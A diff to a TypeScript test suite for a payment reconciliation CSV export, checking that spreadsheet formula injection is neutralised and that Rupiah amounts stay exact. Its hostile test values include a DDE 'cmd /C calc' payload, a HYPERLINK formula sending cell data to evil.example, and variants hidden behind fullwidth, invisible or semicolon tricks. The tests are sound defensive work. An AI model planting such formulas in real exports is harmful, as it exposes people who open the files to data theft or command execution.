@@ -47,7 +47,9 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
     const body = await exportCsv(merchant.id);
     const rows = parse(body, { columns: true }) as Record<string, string>[];
     const ids = rows.map((r) => r.merchantTrxId).sort();
-    expect(ids).toEqual([...hostile.map((id) => `'${id}`), ...harmless].sort());
+    // A carriage return also ends a row where ; separates cells: the = after it starts a cell there.
+    const neutralised = hostile.map((id) => (id === '\r=1+1' ? "'\r'=1+1" : `'${id}`));
+    expect(ids).toEqual([...neutralised, ...harmless].sort());
     const normal = rows.find((r) => r.merchantTrxId === 'INV-2026-0001');
     expect(normal).toMatchObject({
       merchantName: "'=cmd|' /C calc'!A0",
@@ -63,6 +65,57 @@ describe('recon CSV and spreadsheet formulas (real PostgreSQL)', () => {
     expect(body).toMatch(/,50000,500,49500,/);
     // The formula with a comma and quotes stays one quoted cell.
     expect(body).toContain(`"'=HYPERLINK(""https://evil.example/?d=""&A1,""Refund"")"`);
+  });
+
+  it('neutralises formulas after invisible characters, in fullwidth forms and after a ; or a line break: no cell begins a formula, comma- or semicolon-separated', async () => {
+    const { merchant } = await createMerchant(prisma, { name: 'Toko;=HYPERLINK("https://evil.example/?"&A1)' });
+    const hostile: Record<string, string> = {
+      '＝1+1': "'＝1+1",
+      '\u200b=1+1': "'\u200b=1+1",
+      ' =1+1': "' =1+1",
+      'x;=1+1': "x;'=1+1",
+      '|': "'|",
+      '"@SUM(A1)"': '\'"@SUM(A1)"',
+    };
+    for (const id of Object.keys(hostile)) await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, id);
+    const paid = await insertPayin(prisma, merchant.id, 5_000_000n, 50_000n, 'PAID-2');
+    await prisma.payin.update({
+      where: { id: paid },
+      data: { issuer: '\ufeff＠A1', rrn: '12;-1+1', nmid: 'ID1\n=1+1' },
+    });
+
+    const body = await exportCsv(merchant.id);
+    const rows = parse(body, { columns: true }) as Record<string, string>[];
+    expect(rows.map((r) => r.merchantTrxId)).toEqual(expect.arrayContaining(Object.values(hostile)));
+    expect(rows.find((r) => r.merchantTrxId === 'PAID-2')).toMatchObject({
+      merchantName: 'Toko;\'=HYPERLINK("https://evil.example/?"&A1)',
+      issuer: "'\ufeff＠A1",
+      rrn: "12;'-1+1",
+      nmid: "ID1\n'=1+1",
+    });
+    // Read as Excel reads it where ; separates cells (and a line break ends a row whatever the quotes):
+    // after characters a spreadsheet may drop or not show, no cell starts with a trigger.
+    const invisible = /^[\p{Cc}\p{Cf}\p{White_Space}\p{Default_Ignorable_Code_Point}"]*/u;
+    const formula = (cell: string) => /^[=+\-@|\t\r]/.test(cell.replace(invisible, '').normalize('NFKC'));
+    const semicolonCells = body.split(/[;\r\n]/);
+    expect(semicolonCells.filter(formula)).toEqual([]);
+    expect(rows.flatMap((r) => Object.values(r)).filter(formula)).toEqual([]);
+  });
+
+  it('keeps the money columns exact: Rupiah with at most two decimals, never quoted, netAmount = amount - fee', async () => {
+    const { merchant } = await createMerchant(prisma);
+    const cents = await insertPayin(prisma, merchant.id, 100_050n, 7n, 'CENTS-1');
+    await prisma.payin.update({ where: { id: cents }, data: { feePctMilli: 700, feeFixed: 7n } });
+    await insertPayin(prisma, merchant.id, 150_000n, 150_000n, 'ALL-FEE-1');
+    await insertPayin(prisma, merchant.id, 99_999_999_999n, 1n, 'LARGE-1');
+    const rows = parse(await exportCsv(merchant.id), { columns: true }) as Record<string, string>[];
+    const money = (id: string) => {
+      const r = rows.find((row) => row.merchantTrxId === id);
+      return r && [r.amount, r.fee, r.netAmount, r.feePercentage, r.feeFixed];
+    };
+    expect(money('CENTS-1')).toEqual(['1000.5', '0.07', '1000.43', '0.7', '0.07']);
+    expect(money('ALL-FEE-1')).toEqual(['1500', '1500', '0', '0', '1500']);
+    expect(money('LARGE-1')).toEqual(['999999999.99', '0.01', '999999999.98', '0', '0.01']);
   });
 
   it('fills rrn and issuer only for a paid pay-in: empty for a failed one even when the acquirer named its issuer', async () => {
